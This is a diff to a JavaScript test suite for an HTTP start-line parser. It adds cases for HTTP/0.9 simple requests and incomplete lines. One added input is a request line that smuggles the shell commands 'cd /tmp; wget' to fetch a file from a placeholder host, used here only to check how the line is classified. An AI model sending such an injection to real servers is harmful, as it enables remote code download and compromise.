@@ -28,7 +28,8 @@ describe('parseStartLine on requests', () => {
   })
 
   it.each([
-    { name: 'a request without a version (HTTP/0.9)', text: 'GET /\r\n' },
+    { name: 'a POST without a version', text: 'POST /\r\n' },
+    { name: 'a GET of something that is no path', text: 'GET key\r\n' },
     { name: 'HTTP/2 with prior knowledge', text: 'PRI * HTTP/2.0\r\n' },
     { name: 'HTTP/1.2, which does not exist', text: 'GET / HTTP/1.2\r\n' },
     { name: 'RTSP', text: 'DESCRIBE rtsp://example.com/a RTSP/1.0\r\n' },
@@ -56,6 +57,15 @@ describe('parseStartLine on requests', () => {
     { name: 'a bare CR', text: 'GET / HTTP/1.1\rX' },
     { name: 'something behind the version', text: 'GET / HTTP/1.1 x\r\n' },
   ])('refuses $name', ({ text }) => expect(kindOf(text)).toBe('malformed'))
+
+  it.each([
+    ['GET /index.html\r\n', 'simple_request'],
+    ['GET /\n', 'simple_request'],
+    ['GET /\r', 'incomplete'],
+    ['GET /shell?cd+/tmp; wget+ http://a/b HTTP/1.1\r\n', 'request'],
+    ['GET /a b HTTP/1.', 'incomplete'],
+    ['GET /a b c\r\n', 'malformed'],
+  ])('takes what servers take: %j is %s', (line, kind) => expect(kindOf(line)).toBe(kind))
 
   it('says where the parts lie', () => {
     const text = 'POST /form HTTP/1.0\r\n'
